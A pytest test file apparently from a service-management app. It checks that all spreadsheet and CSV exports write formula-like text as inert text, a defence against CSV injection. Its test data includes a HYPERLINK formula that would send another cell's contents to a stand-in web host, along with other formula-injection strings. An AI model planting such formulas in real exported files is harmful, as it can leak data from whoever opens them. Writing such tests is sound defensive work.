"""Issue 23, item 6: "Every xlsx and CSV the app writes goes through one writer that writes a
text cell beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return as text (OWASP's
CSV-injection rule), so a spreadsheet shows it and never runs it."

The formula round trip through every export: each workbook the app builds is written with
every text cell replaced by a formula-like text (through the one writer), read back with
openpyxl, and each text must come back as the same string in a string cell, never a formula.
A source walk makes sure no module writes a cell or a CSV row any other way.
"""

from __future__ import annotations

import ast
import csv
import dataclasses
import datetime as dt
import io
import zipfile
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import update

import reports.xlsx
from app.cli import main
from domain import clock
from domain.model import Staff
from domain.roles import Actor, Role
from domain.services.branch import BranchView
from domain.services.care_views import ClassMoveRow
from domain.services.complaint_statistics import MonthlyStatistics
from domain.services.customers import CustomerInput
from domain.services.registry import Services
from reports.safe_cells import csv_text, formula_like, put_cell, write_csv
from reports.xlsx import Cell, add_sheet, new_workbook, workbook_bytes, write_note, write_table
from reports.xlsx_care import care_summary_xlsx, customer_classes_xlsx
from reports.xlsx_complaints import complaint_statistics_xlsx, penalties_xlsx
from reports.xlsx_kpi import kpi_workbook, supervisor_workbook, technician_workbook
from tests.reports.complaint_shop import ComplaintShop
from tests.reports.test_care_forms import CALL_AT, Care, care  # noqa: F401  (fixture)
from tests.reports.test_complaint_xlsx import month as complaint_month  # noqa: F401  (fixture)
from tests.unit.test_kpi import at, manager, month  # noqa: F401  (fixtures)

HYPERLINK = '=HYPERLINK("http://x?d="&E2,"点我")'
HOSTILE = (HYPERLINK, "+1", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1")
SRC = Path(__file__).resolve().parents[2] / "src"


def _as_read(text: str) -> str:
    """What any XML reader (openpyxl, Excel) gives back: XML 1.0 turns a lone CR into LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _cells(data: bytes, *, read_only: bool = False) -> Iterator[tuple[str, object, str]]:
    book = load_workbook(io.BytesIO(data), read_only=read_only)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell.value, cell.data_type


def _no_formula_in_xml(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


# --- the writer itself ----------------------------------------------------------------------
@pytest.mark.parametrize("text", [*HOSTILE, "普通文字", "a=b", "100", "", "'=quoted"])
def test_formula_like_follows_owasp(text: str) -> None:
    assert formula_like(text) == (text[:1] in ("=", "+", "-", "@", "\t", "\r"))


def test_text_is_written_as_text_and_numbers_stay_numbers() -> None:
    book = new_workbook()
    sheet = add_sheet(book, "表")
    for row, text in enumerate(HOSTILE, start=1):
        put_cell(sheet, row, 1, text)
        put_cell(sheet, row, 2, -2)
        put_cell(sheet, row, 3, Decimal("-3.10"))
        put_cell(sheet, row, 4, dt.date(2026, 12, 7))
    data = workbook_bytes(book)
    _no_formula_in_xml(data)
    for read_only in (False, True):
        sheet = load_workbook(io.BytesIO(data), read_only=read_only).worksheets[0]
        for row, text in zip(sheet.iter_rows(), HOSTILE, strict=True):
            assert (row[0].value, row[0].data_type) == (_as_read(text), "s")
            assert (row[1].value, row[1].data_type) == (-2, "n")  # a negative number is a number
            assert row[2].data_type == "n" and row[2].value == pytest.approx(-3.1)
            assert row[3].value == dt.datetime(2026, 12, 7)
    quoted = load_workbook(io.BytesIO(data)).worksheets[0]["A1"]
    assert quoted.quotePrefix  # Excel keeps it text when the cell is edited, too


def test_write_table_headers_values_totals_and_notes_are_text() -> None:
    book = new_workbook()
    sheet = add_sheet(book, "表")
    write_table(sheet, ["客户", "=表头"], [[t, -2] for t in HOSTILE],
                [None, None], total_rows=[[Cell("@合计", bold=True), -1]])
    write_note(sheet, "=注：" + HYPERLINK)
    data = workbook_bytes(book)
    _no_formula_in_xml(data)
    texts = [(v, t) for _s, v, t in _cells(data) if isinstance(v, str)]
    assert all(t == "s" for _v, t in texts)
    assert [v for v, _t in texts] == ["客户", "=表头", *[_as_read(t) for t in HOSTILE], "@合计",
                                      "=注：" + HYPERLINK]


def test_csv_prefixes_formula_like_text_with_a_quote() -> None:
    stream = io.StringIO(newline="")
    write_csv(stream, ["客户", "=金额"], [[t, -2] for t in HOSTILE] + [["张三", Decimal("1.50")], [None, 0]])
    rows = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert rows[0] == ["客户", "'=金额"]
    assert rows[1:1 + len(HOSTILE)] == [["'" + t, "-2"] for t in HOSTILE]  # the number stays -2
    assert rows[-2:] == [["张三", "1.50"], ["", "0"]]
    assert csv_text("-2") == "'-2" and csv_text(-2) == "-2"
    assert '"' + "'" + '=HYPERLINK(""http://x' in stream.getvalue()  # quoted, quotes doubled


# --- nothing writes a cell or a CSV row another way -------------------------------------------
def _cell_writes(tree: ast.AST) -> list[int]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            attr = node.func.attr
            if attr == "cell" and (any(k.arg == "value" for k in node.keywords) or len(node.args) > 2):
                found.append(node.lineno)
            if attr in ("writer", "DictWriter") and isinstance(node.func.value, ast.Name) \
                    and node.func.value.id == "csv":
                found.append(node.lineno)
        if isinstance(node, ast.Assign | ast.AugAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append(node.lineno)
                if isinstance(target, ast.Subscript) and isinstance(target.value, ast.Name) \
                        and target.value.id in ("sheet", "ws", "worksheet"):
                    found.append(node.lineno)
    return found


def test_only_the_one_writer_puts_values_into_cells_or_csv_rows() -> None:
    offenders = {}
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path == SRC / "reports" / "safe_cells.py" or ("openpyxl" not in text and "csv" not in text):
            continue
        lines = _cell_writes(ast.parse(text))
        if lines:
            offenders[str(path.relative_to(SRC))] = lines
    assert offenders == {}


# --- every export, every text cell --------------------------------------------------------------
@pytest.fixture
def poisoned(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every text the exports write goes through ``put_cell``, swapped for a formula-like text."""
    written: list[str] = []
    real = reports.xlsx.put_cell

    def hostile_put(sheet: Worksheet, row: int, column: int, value: object):  # type: ignore[no-untyped-def]
        if isinstance(value, str):
            value = HOSTILE[len(written) % len(HOSTILE)]
            written.append(value)
        return real(sheet, row, column, value)

    monkeypatch.setattr(reports.xlsx, "put_cell", hostile_put)
    return written


def _check_export(data: bytes, written: list[str]) -> None:
    assert len(written) > len(HOSTILE)  # the export wrote text, and all of it through the writer
    _no_formula_in_xml(data)
    seen = 0
    for read_only in (False, True):
        for sheet, value, data_type in _cells(data, read_only=read_only):
            assert data_type != "f", (sheet, value)
            if isinstance(value, str):
                assert data_type == "s" and value in {_as_read(t) for t in HOSTILE}, (sheet, value)
                seen += 1
    assert seen == 2 * len(written)  # every text cell in the file came through the one writer


def test_care_exports_write_formula_like_text_as_text(care: Care, poisoned: list[str]) -> None:  # noqa: F811
    for build in (lambda: care_summary_xlsx(care.branch, care.summary),
                  lambda: customer_classes_xlsx(care.branch, care.classes, [
                      ClassMoveRow("c1", "张三", "13800000000", "A", "B")])):
        poisoned.clear()
        _check_export(build(), poisoned)


def test_complaint_exports_write_formula_like_text_as_text(
        complaint_month: tuple[BranchView, MonthlyStatistics, ComplaintShop],  # noqa: F811
        poisoned: list[str]) -> None:
    branch, stats, _shop = complaint_month
    for build in (lambda: complaint_statistics_xlsx(branch, stats),
                  lambda: penalties_xlsx(branch, 2026, 11, stats.penalties)):
        poisoned.clear()
        _check_export(build(), poisoned)


def test_kpi_and_daily_exports_write_formula_like_text_as_text(
        services: Services, manager: Actor, month: dict[str, object],  # noqa: F811
        poisoned: list[str]) -> None:
    branch = services.branches.current()
    kpis = services.kpi.monthly(manager, "2026-10")
    ranking = services.kpi.ranking(manager, "2026-10")
    with clock.freeze(at(2026, 10, 2, 9)):
        days = services.daily_reports.technician_days(manager, dt.date(2026, 10, 1))
        sup = services.daily_reports.supervisor_day(manager, dt.date(2026, 10, 1))
    builds: list[Callable[[], bytes]] = [lambda: kpi_workbook(kpis, ranking),
                                         lambda: technician_workbook(days, branch.timezone),
                                         lambda: supervisor_workbook(sup, branch.timezone)]
    for build in builds:
        poisoned.clear()
        _check_export(build(), poisoned)


# --- the attack as reported, end to end ---------------------------------------------------------
def test_customer_named_hyperlink_is_text_in_the_customer_classes_export(care: Care) -> None:  # noqa: F811
    """客户分级: a customer named =HYPERLINK(…&E2…) must not become a live formula."""
    services = care.ctx.services
    admin = services.staff.login("admin", "admin123-Kq7v")
    staff = services.staff.create(admin, username="adv_formula", display_name="前台甲", role=Role.ADVISOR,
                                  password="pass1234-Lw9x")
    advisor = Actor(staff.id, staff.username, staff.display_name, staff.role)
    view = services.customers.get(advisor, care.customer.id)
    data = CustomerInput(**{f.name: getattr(view, f.name) for f in dataclasses.fields(CustomerInput)})
    services.customers.update(advisor, view.id, dataclasses.replace(data, name=HYPERLINK))
    try:
        with clock.freeze(CALL_AT):
            classes = services.care.classes(care.clerk)
        assert HYPERLINK in {r.customer_name for r in classes}
        data_out = customer_classes_xlsx(care.branch, classes)
        _no_formula_in_xml(data_out)
        for read_only in (False, True):
            sheet = load_workbook(io.BytesIO(data_out), read_only=read_only)["客户分级"]
            cells = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
            assert cells and all(c.data_type == "s" for c in cells)
    finally:
        services.customers.update(advisor, view.id, data)


def test_cli_report_xlsx_writes_formula_like_names_as_text(
        services: Services, manager: Actor, month: dict[str, object],  # noqa: F811
        data_dir: Path, tmp_path: Path) -> None:
    """`report … -o F.xlsx` writes formula-like text as text (issue 23's command-line contract)."""
    with services.uow() as session:
        session.execute(update(Staff).where(Staff.display_name == "李师傅").values(display_name=HYPERLINK))
    out = tmp_path / "tech.xlsx"
    assert main(["--data-dir", str(data_dir), "report", "daily-technician", "--date", "2026-10-01",
                 "-o", str(out)]) == 0
    data = out.read_bytes()
    _no_formula_in_xml(data)
    names = [(v, t) for _s, v, t in _cells(data) if v == HYPERLINK]
    assert names and all(t == "s" for _v, t in names)
